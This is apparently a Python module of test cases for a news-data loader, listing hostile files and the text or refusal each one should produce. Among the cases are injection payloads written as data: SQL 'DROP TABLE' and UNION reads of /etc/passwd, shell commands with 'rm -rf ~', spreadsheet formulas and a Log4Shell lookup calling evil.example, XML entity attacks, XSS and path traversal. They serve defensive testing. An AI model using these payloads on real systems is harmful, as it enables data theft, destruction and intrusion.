"""The table of hostile inputs: name, how the file is made, what must come of it. Belongs here: cases, no tests.

`texts` are the texts that load, exactly; `reasons` the refusals as (position, reason). A case is one file, in a folder of
its own. What is generated is small; costly cases are in `test_hostile_costs.py`.
"""

from __future__ import annotations

import gzip
import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

PLAIN = "Norway's foreign minister met Iceland's foreign minister in Oslo on Friday, officials said."
_HTML = f"<html><head><title>Talks</title></head><body><article><p>{PLAIN}</p><p>{PLAIN} Both praised the talks.</p></article></body></html>"
_READ_HTML = f"{PLAIN}\n{PLAIN} Both praised the talks."


@dataclass(frozen=True)
class Case:
    """One hostile file."""

    name: str
    file: str | bytes
    content: bytes | Callable[[Path], None]
    texts: tuple[str, ...] = ()
    reasons: tuple[tuple[int, str], ...] = ()

    def write(self, folder: Path) -> None:
        """Make the file in this folder."""
        folder.mkdir(parents=True)
        path = Path(os.fsdecode(os.fsencode(folder) + b"/" + os.fsencode(self.file)))
        if callable(self.content):
            self.content(path)
        else:
            path.write_bytes(self.content)


def line(**fields: object) -> bytes:
    """A line of JSON with the plain text unless another is given; what UTF-8 cannot hold is escaped."""
    return json.dumps({"text": PLAIN} | fields).encode() + b"\n"


def one(name: str, text: str, loaded: str | None = None, **fields: object) -> Case:
    """A line with this text, which loads as `loaded`, or as it is."""
    return Case(name, "a.jsonl", line(text=text, **fields), (text if loaded is None else loaded,))


def field(name: str, **fields: object) -> Case:
    """A line with the plain text and these fields, which loads."""
    return Case(name, "a.jsonl", line(**fields), (PLAIN,))


def refused(name: str, reason: str, content: bytes, file: str = "a.jsonl", position: int = 0) -> Case:
    """A file with one bad record, and a good one after it where the kind has lines."""
    if file.endswith(".jsonl") and position == 0:
        return Case(name, file, content.removesuffix(b"\n") + b"\n" + line(), (PLAIN,), ((0, reason),))
    return Case(name, file, content, (), ((position, reason),))


def bad_date(name: str, value: object, reason: str = "bad_date") -> Case:
    """A date that cannot be used."""
    return refused(f"date_{name}", reason, line(published_at=value))


def named(name: str, file: str | bytes) -> Case:
    """A plain article in a file of this name."""
    return Case(f"name_{name}", file, line(id=name), (PLAIN,))


def page(name: str, html: str | bytes, *texts: str, reason: str | None = None, position: int = 0) -> Case:
    """A page."""
    data = html if isinstance(html, bytes) else html.encode()
    return Case(f"html_{name}", "a.html", data, texts, ((position, reason),) if reason else ())


def feed(name: str, text: str, *texts: str, head: str = "", reason: tuple[int, str] | None = None) -> Case:
    """An RSS document with one item of this description, after this head."""
    document = (
        f'<?xml version="1.0"?>{head}<rss version="2.0"><channel><title>Wire</title><item><title>Talks</title>'
        f"<description>{text}</description></item></channel></rss>"
    )
    return Case(f"xml_{name}", "a.xml", document.encode(), texts, (reason,) if reason else ())


def link(target: str) -> Callable[[Path], None]:
    """A symbolic link to this."""
    return lambda path: path.symlink_to(target)


def _with_sidecar_link(path: Path) -> None:
    path.write_text(PLAIN)
    path.with_suffix(".json").symlink_to("/etc/hostname")


_ENTITIES = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_RSS = "<rss version='2.0'><channel><item><description>%s</description></item></channel></rss>"
_NITF = "<!DOCTYPE nitf [%s]><nitf><body><body.content><p>%s</p></body.content></body></nitf>"
_TRICKS = {
    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "formula_dde": "=cmd|' /C calc'!A0", "formula_at": "@SUM(1+1)*cmd",
    "formula_tab": "\t=1+1", "sql": "'; DROP TABLE raw.articles; --", "sql_union": "x' UNION SELECT * FROM read_csv('/etc/passwd') --",
    "sql_dollar": "$$; ATTACH '/tmp/x' AS x; $$", "jinja": "{{ env_var('HOME') }}{% do run_query('drop schema raw') %}",
    "jinja_open": "{{ {% {#", "shell": "$(touch hostile-was-here); `id` | sh && rm -rf ~", "path": "../../../../etc/passwd",
    "format": "%s%s%n{0.__class__}{}", "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "rich": "[red]x[/red] [link=file:///etc/passwd]y[/link] [/]", "log4j": "${jndi:ldap://evil.example/a}",
    "yaml": "!!python/object/apply:os.system ['id']", "ansi": "\x1b]0;owned\x07\x1b[2J", "crlf": "a\r\nSet-Cookie: b=c",
}  # fmt: skip
_LOADED_TRICKS = {
    "formula_tab": " =1+1", "ansi": "]0;owned[2J", "crlf": "a\nSet-Cookie: b=c",
}  # fmt: skip


def tricks(name: str) -> list[Case]:
    """A trick as the text, in every other field of JSON, and in every cell of CSV."""
    trick = _TRICKS[name]
    fields = dict.fromkeys(("id", "url", "source", "title", "author", "language"), trick)
    cells = ",".join('"' + trick.replace('"', '""') + '"' for _ in range(6))
    sheet = f'id,url,source,title,author,language,text\n{cells},"{PLAIN}"\n'.encode()
    return [
        one(f"trick_{name}_in_text", f"{PLAIN} {trick}", f"{PLAIN} {_LOADED_TRICKS.get(name, trick)}"),
        field(f"trick_{name}_in_fields", **fields),
        Case(f"trick_{name}_in_cells", "a.csv", sheet, (PLAIN,)),
    ]


CASES: list[Case] = [
    # bytes and encodings
    one("nul_escaped", f"{PLAIN}\x00 More.", f"{PLAIN} More."),
    Case("nul_raw_in_a_string", "a.jsonl", b'{"text": "' + PLAIN.encode() + b'\x00"}\n', (PLAIN,)),
    refused("nul_outside_a_string", "invalid_json", b'\x00{"text": "x"}'),
    refused("nul_file_of_text", "not_text", b"\x00" * 1_000, "a.txt"),
    refused("nul_file_of_lines", "invalid_json", b"\x00" * 1_000),
    refused("utf8_bad_start", "invalid_utf8", b'{"text": "a\xff"}'),
    refused("utf8_overlong", "invalid_utf8", b'{"text": "a\xc0\x80"}'),
    refused("utf8_surrogate", "invalid_utf8", b'{"text": "a\xed\xa0\x80"}'),
    refused("utf8_beyond_unicode", "invalid_utf8", b'{"text": "a\xf4\x90\x80\x80"}'),
    refused("utf8_cut", "invalid_utf8", PLAIN.encode() + b"\xe2\x82", "a.txt", -1),
    Case("utf16_lines", "a.jsonl", line().decode().encode("utf-16"), (PLAIN,)),
    Case("utf16_odd_byte", "a.jsonl", line().decode().encode("utf-16") + b"\n", (PLAIN,), ((1, "invalid_json"),)),
    Case("utf7_is_ascii", "a.txt", PLAIN.encode() + b" +ADw-script+AD4-", (PLAIN + " +ADw-script+AD4-",)),
    Case("bom_twice", "a.txt", b"\xef\xbb\xbf\xef\xbb\xbf" + PLAIN.encode(), (PLAIN,)),
    refused("bom_between_lines", "invalid_json", b"\n\xef\xbb\xbf" + line(), position=1),
    one("surrogate_high_alone", PLAIN + " \ud83d.", PLAIN + " \ufffd."),
    one("surrogate_low_alone", PLAIN + " \ude00.", PLAIN + " \ufffd."),
    one("surrogates_reversed", PLAIN + " \ude00\ud83d.", PLAIN + " \ufffd\ufffd."),
    Case("surrogate_pair", "a.jsonl", line(text=PLAIN + " \U0001f600."), (PLAIN + " \U0001f600.",)),
    one("surrogate_in_every_field", PLAIN, title="\ud800", source="\udfff", url="\ud800", author="\ud800", id="\udc00"),
    # characters
    one("noncharacters", PLAIN + "\ufffe\uffff", PLAIN),
    one("private_use", PLAIN + " \ue000\U000f0000"),
    one("unassigned", PLAIN + " \u0378\U000323b0"),
    one("bidi_override", "Nor\u202eway\u202c met Iceland.", "Norway met Iceland."),
    one("bidi_isolates", "\u2066Norway\u2069 met \u2067Iceland\u2069.", "Norway met Iceland."),
    one("zero_width_in_names", "Nor\u200bway m\u200det Ice\ufeffland.", "Norway met Iceland."),
    one("zero_width_only", "\u200b\u200d\ufeff" * 50 + "Norway", "Norway"),
    refused("nothing_but_unseen", "no_text", line(text="\u200b\u2060\u00ad\u202e" * 100)),
    refused("nothing_but_blanks", "no_text", line(text=" \u00a0\u2003\n\t" * 100)),
    one("marks_only", "\u0301" * 1_000, "\u0301" * 8),
    one("marks_stacked", "Norwa\u0301" + "\u0316\u0301" * 100_000 + " met Iceland.", "Norw\u00e1" + "\u0316" * 4 + "\u0301" * 3 + " met Iceland."),
    one("decomposed", "Mu\u0308nchen, Sa\u0303o Tome\u0301", "M\u00fcnchen, S\u00e3o Tom\u00e9"),
    one("ligature_and_width_kept", "\ufb01nance \uff2eorway"),
    one("emoji_sequence", "\U0001f468\u200d\U0001f469 met \U0001f1f3\U0001f1f4.", "\U0001f468\U0001f469 met \U0001f1f3\U0001f1f4."),
    one("emoji_tags", "\U0001f3f4\U000e0067\U000e0062\U000e007f Scotland", "\U0001f3f4 Scotland"),
    one("hangul_fillers", "\u115f\u1160Seoul\u3164 met", "Seoul\u3164 met"),
    one("line_ends", "a\r\nb\rc\x85d\u2028e\u2029f\x0bg\x0ch", "a\nb\nc\nd\ne\nf\ng\nh"),
    one("controls", "Nor\x08way\x7f \x1b[31mmet\x1b[0m Iceland.", "Norway [31mmet[0m Iceland."),
    one("look_alikes", "N\u043erway met \u0406celand."),
    one("right_to_left", "\u0648\u0632\u064a\u0631 \u0627\u0644\u062e\u0627\u0631\u062c\u064a\u0629"),
    one("language_mixed", f"{PLAIN} \u4e2d\u56fd\u5916\u4ea4\u90e8\u3002 \u041f\u0440\u0438\u0432\u0435\u0442."),
    one("one_letter", "x"),
    one("one_word_of_a_million_letters", "a" * 1_000_000),
    one("nested_quotations", "\u201c" * 5_000 + "Norway met Iceland" + "\u201d" * 5_000),
    one("nested_brackets", "(" * 5_000 + "Norway met Iceland" + ")" * 5_000),
    one("full_stops", "." * 50_000 + " Norway met Iceland."),
    one("no_full_stop", "Norway met Iceland and " * 5_000, ("Norway met Iceland and " * 5_000).strip()),
    one("repeated_words", "that " * 20_000 + "Norway met Iceland."),
    # JSON
    Case("json_keys_twice", "a.jsonl", b'{"text": "x", "text": "' + PLAIN.encode() + b'"}\n', (PLAIN,)),
    refused("json_nan_as_date", "wrong_type", b'{"text": "x", "published_at": NaN}'),
    refused("json_number_of_a_million_digits", "invalid_json", b'{"text": "x", "id": ' + b"9" * 1_000_000 + b"}"),
    refused("json_deep", "invalid_json", b'{"text": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"),
    refused("json_float_as_id", "wrong_type", b'{"text": "x", "id": 1e309}'),
    refused("json_true_as_text", "wrong_type", b'{"text": true}'),
    refused("json_list_as_text", "wrong_type", b'{"text": ["x"]}'),
    refused("json_object_as_title", "wrong_type", b'{"text": "x", "title": {"$gt": ""}}'),
    Case("json_keys_of_an_attack", "a.jsonl", line(**{"__proto__": {"a": 1}, "__class__": "os.system", "raw_sha256": "x", "position": 9}), (PLAIN,)),
    Case("json_ten_thousand_keys", "a.jsonl", line(**{f"k{n}": n for n in range(10_000)}), (PLAIN,)),
    refused("json_trailing_comma", "invalid_json", b'{"text": "x",}'),
    refused("json_two_on_a_line", "invalid_json", line().strip() + line().strip()),
    refused("json_lines_ended_by_cr", "invalid_json", line().strip() + b"\r" + line().strip()),
    refused("json_list_of_articles", "not_an_object", b"[" + line().strip() + b"]"),
    refused("json_text_above_the_limit", "too_large", line(text="a" * 2_000_001)),
    refused("json_title_above_the_limit", "too_large", line(title="a" * 8_193)),
    Case("json_same_id_other_text", "a.jsonl", line(id="1") + line(id="1", text=PLAIN + " Later."), (PLAIN, PLAIN + " Later.")),
    # dates
    bad_date("year_nought", "0000-01-01", "date_out_of_range"),
    bad_date("year_99999", "99999-01-01", "date_out_of_range"),
    bad_date("negative", "-2025-01-01"),
    bad_date("no_such_day", "2025-02-30"),
    bad_date("hour_25", "2025-02-03T25:00:00Z"),
    bad_date("zone_too_far", "2025-02-03T10:00:00+99:99"),
    bad_date("number_too_great", 10**18),
    bad_date("ambiguous", "03/04/2025", "ambiguous_date"),
    bad_date("sql", "2025-01-01'; DROP TABLE raw.articles; --"),
    bad_date("other_digits", "\uff12\uff10\uff12\uff15-01-01"),
    bad_date("jinja", "{{ modules.datetime.datetime.now() }}"),
    bad_date("thousand_digits", "1" * 1_000),
    # CSV
    Case("csv_lines_in_cells", "a.csv", f'id,text\n1,"{PLAIN}\nMore, ""quoted""."\n'.encode(), (PLAIN + '\nMore, "quoted".',)),
    Case("csv_quotation_never_closed", "a.csv", f'id,text\n1,"open\n2,{PLAIN.split(",")[0]}\n'.encode(), (PLAIN.split(",")[0],), ((0, "invalid_csv"),)),
    Case("csv_nul", "a.csv", f"id;text\n1;{PLAIN}\x00\n".encode(), (PLAIN,)),
    Case("csv_columns_twice", "a.csv", f"text;text\nfirst;{PLAIN}\n".encode(), (PLAIN,)),
    Case("csv_ten_thousand_columns", "a.csv", ";".join(["text", *(f"c{n}" for n in range(10_000))]).encode() + b"\n" + PLAIN.encode() + b";" * 10_000 + b"\n", (PLAIN,)),
    refused("csv_header_alone", "empty_file", b"id,text\n", "a.csv", -1),
    refused("csv_header_with_a_lone_line_end", "invalid_csv", b"id,text\rmore\n1,x\n", "a.csv", -1),
    refused("csv_header_of_a_formula", "missing_column", b"=1+1,@x\n1,2\n", "a.csv", -1),
    Case("csv_too_many_cells", "a.csv", f"id;text\n1;a;b\n2;{PLAIN}\n".encode(), (PLAIN,), ((0, "ragged_row"),)),
    # gzip
    Case("gzip_of_gzip", "a.jsonl.gz", gzip.compress(gzip.compress(line())), (), ((-1, "binary_file"),)),
    Case("gzip_with_a_tail", "a.jsonl.gz", gzip.compress(line()) + b"tail", (PLAIN,), ((-1, "damaged_gzip"),)),
    Case("gzip_of_two", "a.jsonl.gz", gzip.compress(line()) + gzip.compress(line()), (PLAIN, PLAIN)),
    Case("gzip_cut", "a.csv.gz", gzip.compress(b"id,text\n")[:-6], (), ((-1, "damaged_gzip"),)),
    Case("gzip_wrong_sum", "a.jsonl.gz", gzip.compress(line())[:-8] + b"\0" * 8, (PLAIN,), ((-1, "damaged_gzip"),)),
    # XML
    feed("billion_laughs", "&l9;", "&l9;", head=f'<!DOCTYPE r [<!ENTITY l0 "ha">{_ENTITIES}]>'),
    feed("quadratic", "&a;" * 10_000, "&a;" * 10_000, head=f'<!DOCTYPE r [<!ENTITY a "{"b" * 10_000}">]>'),
    feed("entity_of_a_file", PLAIN + "&x;", PLAIN, head='<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    feed("entity_of_an_address", PLAIN + "&x;", PLAIN, head='<!DOCTYPE r [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>'),
    feed("parameter_entity", PLAIN, PLAIN, head='<!DOCTYPE r [<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;]>'),
    feed("outer_dtd", PLAIN, PLAIN, head='<!DOCTYPE r SYSTEM "http://127.0.0.1:9/x.dtd">'),
    feed("style_sheet", PLAIN, PLAIN, head='<?xml-stylesheet href="file:///etc/passwd" type="text/xsl"?>'),
    feed("include", PLAIN + '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>', PLAIN),
    feed("script_in_text", PLAIN + " &lt;script&gt;alert(1)&lt;/script&gt;", PLAIN),
    feed("character_that_xml_forbids", PLAIN + "&#0;&#x1;", PLAIN),
    feed("deep", "<b>" * 20_000 + PLAIN + "</b>" * 20_000, reason=(0, "no_text")),
    Case("xml_cut", "a.xml", f"<rss version='2.0'><channel><item><description>{PLAIN}".encode(), (), ((0, "no_text"),)),
    Case("xml_wrong_encoding", "a.xml", ("<?xml version='1.0' encoding='utf-32'?>" + _RSS % PLAIN).encode(), (PLAIN,)),
    Case("xml_deep_newsml", "a.xml", b"<nitf><body><body.content>" + b"<p>" * 50_000 + PLAIN.encode(), (), ((0, "no_text"),)),
    Case("xml_billion_laughs_newsml", "a.xml", (_NITF % (f'<!ENTITY l0 "ha">{_ENTITIES}', "&l9;")).encode(), (), ((0, "no_text"),)),
    Case("xml_file_in_newsml", "a.xml", (_NITF % ('<!ENTITY x SYSTEM "file:///etc/passwd">', PLAIN + " &x;")).encode(), (PLAIN,)),
    Case("xml_sitemap", "a.xml", b"<urlset><url><loc>file:///etc/passwd</loc></url></urlset>", (), ((-1, "list_of_links"),)),
    Case("xml_no_items", "a.rss", b'<rss version="2.0"><channel><title>x</title></channel></rss>', (), ((-1, "empty_file"),)),
    # pages
    page("deep", "<div>" * 100_000 + PLAIN, reason="html_too_deep"),
    page("scripts_only", f"<script>document.write('{PLAIN}')</script>" * 100, reason="html_without_text"),
    page("attributes", _HTML.replace("<article", "<article " + " ".join(f"a{n}=x" for n in range(2_000))), _READ_HTML),
    page("never_closed", _HTML.replace("</p>", "") , _READ_HTML),
    page("comments", "<!--" * 50_000 + _HTML, reason="html_without_text"),
    page("nul", _HTML.replace("Norway", "Nor\x00way"), _READ_HTML),
    page("refresh_to_a_file", _HTML.replace("<head>", '<head><meta http-equiv="refresh" content="0;url=file:///etc/passwd"><base href="file:///">'), _READ_HTML),
    page("frame_of_a_file", _HTML.replace("</article>", '<iframe src="file:///etc/passwd"></iframe></article>'), _READ_HTML),
    page("image_of_a_megabyte", _HTML.replace("</article>", '<img src="data:image/png;base64,' + "A" * 1_000_000 + '"></article>'), _READ_HTML),
    page("above_the_limit", _HTML + " " * 5_000_000, reason="too_large", position=-1),
    page("declares_what_it_is_not", _HTML.replace("<head>", "<head><meta charset='utf-16'>"), _READ_HTML),
    page("json_ld_bomb", _HTML.replace("<head>", '<head><script type="application/ld+json">' + "[" * 50_000 + "</script>"), _READ_HTML),
    # file names
    named("sql", "a'; DROP TABLE raw.articles; --.jsonl"),
    named("jinja", "{{ 7 * 7 }}{% raw %}.jsonl"),
    named("shell", "$(touch hostile-was-here);`id`&|.jsonl"),
    named("option", "-rf --help.jsonl"),
    named("formula", "=cmd|' C calc'!A0.jsonl"),
    named("line_end", "a\nb\r.jsonl"),
    named("long", "a" * 249 + ".jsonl"),
    named("no_utf8", b"caf\xe9\xff.jsonl"),
    named("bidi", "a\u202elnosj.jsonl"),
    named("glob", "[*?].jsonl"),
    named("encoded_path", "x..%2f..%2fetc%2fpasswd.jsonl"),
    named("backslash", "x\\..\\..\\a.jsonl"),
    named("rich", "[red]a[link=x].jsonl"),
    named("format", "%s%n{0}.jsonl"),
    named("upper_case", "A.JSONL"),
    named("quotation_mark", 'a"b.jsonl'),
    # what is no file
    Case("file_link_to_passwd", "a.txt", link("/etc/passwd"), (), ((-1, "outside_link"),)),
    Case("file_link_to_zeros", "a.jsonl", link("/dev/zero"), (), ((-1, "outside_link"),)),
    Case("file_link_to_itself", "a.jsonl", link("a.jsonl"), (), ((-1, "outside_link"),)),
    Case("file_link_up", "a.txt", link("../../../../../../etc/passwd"), (), ((-1, "outside_link"),)),
    Case("file_pipe", "a.jsonl", os.mkfifo, (), ((-1, "not_a_file"),)),
    Case("file_folder_of_that_name", "a.jsonl", lambda path: (path.mkdir(), (path / "b.jsonl").write_bytes(line())), (PLAIN,)),
    Case("file_sidecar_is_a_link_out", "a.txt", _with_sidecar_link, (), ((-1, "outside_link"),)),
    Case("file_program", "a.txt", b"\x7fELF" + b"\0" * 100, (), ((-1, "binary_file"),)),
    *(case for name in _TRICKS for case in tricks(name)),
]  # fmt: skip
